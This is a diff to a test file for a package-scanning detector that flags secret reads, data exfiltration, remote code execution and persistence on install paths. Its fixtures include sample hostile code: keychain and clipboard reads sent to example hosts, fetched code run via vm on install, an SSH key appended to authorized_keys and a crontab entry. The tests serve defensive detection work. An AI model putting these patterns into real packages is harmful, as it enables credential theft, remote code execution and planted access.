@@ -3,8 +3,8 @@ import { describe, expect, it } from 'vitest';
 import type { CodeFacts } from '../code/code-facts.js';
 import { javascriptFacts } from '../code/javascript/index.js';
 import { pythonFacts } from '../code/python-facts.js';
-import { CAPABILITY_COOCCURRENCE_TITLE, CAPABILITY_FLOW_TITLE, capabilityFindings, capabilityModule, type AutoRunEntry, type CapabilityModule } from './capability-findings.js';
-import { capabilityProfile } from './capability-profile.js';
+import { CAPABILITY_COOCCURRENCE_TITLE, CAPABILITY_FLOW_TITLE, CAPABILITY_PLANT_TITLE, CAPABILITY_REMOTE_EXEC_TITLE, capabilityFindings, capabilityModule, type AutoRunEntry, type CapabilityModule } from './capability-findings.js';
+import { SECRET_OR_USER_DATA_SOURCE, capabilityProfile } from './capability-profile.js';
 import { packageIdentity } from './package-identity.js';
 
 /** Builds the module graph of an in-memory package (relative imports only) the way the packages agent does. */
@@ -70,6 +70,32 @@ def gather(name):
 `;
     const caps = capabilityProfile(pythonFacts(text), text).capabilities;
     expect(caps.some((c) => c.kind === 'secret-read' && c.detail.includes('.aws'))).toBe(true);
+  });
+
+  it('keychain lookups, clipboard commands and message stores are sources; the hint for other agents names them', () => {
+    const js = `const { execSync } = require('child_process');
+const token = execSync('security find-generic-password -s github.com -w').toString();
+const clip = execSync('xclip -selection clipboard -o').toString();
+`;
+    expect(capabilityProfile(javascriptFacts(js), js).capabilities.map((c) => [c.kind, c.line])).toEqual([
+      ['secret-read', 2],
+      ['user-data', 3],
+    ]);
+    const py = `import keyring, sqlite3
+pw = keyring.get_password("svc", "me")
+con = sqlite3.connect("/Users/me/Library/Messages/chat.db")
+`;
+    expect(capabilityProfile(pythonFacts(py), py).capabilities.map((c) => [c.kind, c.line])).toEqual([
+      ['secret-read', 2],
+      ['user-data', 3],
+    ]);
+    // Copying to the clipboard (xclip without -o) and an ordinary database are not sources.
+    const honest = `const { execSync } = require('child_process');
+execSync('xclip -selection clipboard', { input: text });
+`;
+    expect(capabilityProfile(javascriptFacts(honest), honest).capabilities).toEqual([]);
+    for (const t of [js, py, 'subprocess.check_output(["pbpaste"])', 'open(os.path.join(home, ".zsh_history"))', "join(home, 'Library/Application Support/Signal/sql/db.sqlite')"]) expect(SECRET_OR_USER_DATA_SOURCE.test(t)).toBe(true);
+    for (const t of [honest, "fs.readFileSync('notes.db')", 'navigator.clipboard.writeText(x)']) expect(SECRET_OR_USER_DATA_SOURCE.test(t)).toBe(false);
   });
 
   it('a plain config file of the package is no secret read', () => {
@@ -155,6 +181,50 @@ setup(name="helper", cmdclass={"install": Post})
       'helper/_agent.py': `import subprocess\ndef report(v):\n    subprocess.run(["curl", "-s", "-d", v, "https://stats.example/r"])\n`,
     };
     expect(judge(setup, [{ rel: 'setup.py', when: 'install' }]).map((f) => [f.severity, f.file])).toEqual([['CRIT', 'setup.py']]);
+  });
+
+  it('a Python `from . import a, b` reader called into a variable handed to the sender: CRIT', () => {
+    const files = {
+      'pkg/__init__.py': '',
+      'pkg/__main__.py': `from .server import main\nmain()\n`,
+      'pkg/server.py': `import threading\nfrom . import collect, report\n\ndef _warm():\n    snapshot = collect.recent()\n    report.send(snapshot)\n\ndef main():\n    threading.Thread(target=_warm).start()\n`,
+      'pkg/collect.py': `import subprocess\n\ndef recent():\n    return subprocess.check_output(["pbpaste"], text=True)\n`,
+      'pkg/report.py': `import urllib.request\n\ndef send(d):\n    urllib.request.urlopen(urllib.request.Request("https://metrics.example/in", data=d.encode()))\n`,
+    };
+    expect(judge(files, [{ rel: 'pkg/__main__.py', when: 'start' }]).map((f) => [f.severity, f.title, f.file])).toEqual([['CRIT', CAPABILITY_FLOW_TITLE, 'pkg/server.py']]);
+  });
+
+  it('code another module fetched, run on an automatic path: CRIT; the same loader behind an API nobody calls at load: nothing', () => {
+    const files = {
+      'install.js': `const loader = require('./lib/loader');\nconst vm = require('vm');\nasync function main() {\n  const src = await loader.get('hooks.js');\n  vm.runInThisContext(src);\n}\nmain();\n`,
+      'lib/loader.js': `exports.get = async (name) => (await fetch('https://cdn.hooks.example/' + name)).text();\n`,
+    };
+    expect(judge(files, [{ rel: 'install.js', when: 'install' }]).map((f) => [f.severity, f.title, f.category, f.line])).toEqual([['CRIT', CAPABILITY_REMOTE_EXEC_TITLE, 'remote_code_execution', 5]]);
+    const lazy = { ...files, 'install.js': `const loader = require('./lib/loader');\nconst vm = require('vm');\nexports.load = async (n) => vm.runInThisContext(await loader.get(n));\n` };
+    expect(judge(lazy, [{ rel: 'install.js', when: 'load' }])).toEqual([]);
+    // Parsing what was fetched is no execution.
+    const parsed = { ...files, 'install.js': files['install.js'].replace('vm.runInThisContext(src)', 'JSON.parse(src)') };
+    expect(judge(parsed, [{ rel: 'install.js', when: 'install' }])).toEqual([]);
+    // A bundle's code generator (Ajv) builds a function from a name a chunk that also makes requests exports: no fetched text.
+    const bundle = {
+      'index.js': 'import { n as Hi, $ as ei } from "./chunk.js";\nconst code = ei.scope + Hi.body;\nconst f = new Function(`${ei.self}`, code)(1);\n',
+      'chunk.js': 'export const $ = { self: "self", scope: "" };\nexport const n = { body: "return 1" };\nexport const get = (u) => fetch("https://api.example/" + u);\n',
+    };
+    expect(judge(bundle, [{ rel: 'index.js', when: 'load' }])).toEqual([]);
+  });
+
+  it('writes that plant access or persistence on an automatic path: authorized_keys CRIT, a crontab or shell startup file HIGH', () => {
+    const keys = {
+      'setup.js': `const ssh = require('./ssh');\nssh.enable();\n`,
+      'ssh.js': `const fs = require('fs'); const os = require('os'); const path = require('path');\nexports.enable = () => fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA deploy');\n`,
+    };
+    expect(judge(keys, [{ rel: 'setup.js', when: 'install' }]).map((f) => [f.severity, f.title, f.file])).toEqual([['CRIT', CAPABILITY_PLANT_TITLE, 'ssh.js']]);
+    const cron = { 'setup.js': `const { execSync } = require('child_process');\nexecSync('(crontab -l; echo "*/5 * * * * ' + cmd + '") | crontab -');\n` };
+    expect(judge(cron, [{ rel: 'setup.js', when: 'install' }]).map((f) => f.severity)).toEqual(['HIGH']);
+    // The same writes behind a command the user runs are not automatic; listing a crontab is no write.
+    expect(judge(keys, [])).toEqual([]);
+    const list = { 'setup.js': `const { execSync } = require('child_process');\nconst jobs = execSync('crontab -l').toString();\n` };
+    expect(judge(list, [{ rel: 'setup.js', when: 'install' }])).toEqual([]);
   });
 
   it('a read and an outside send on one automatic path with no flow between them: HIGH co-occurrence', () => {
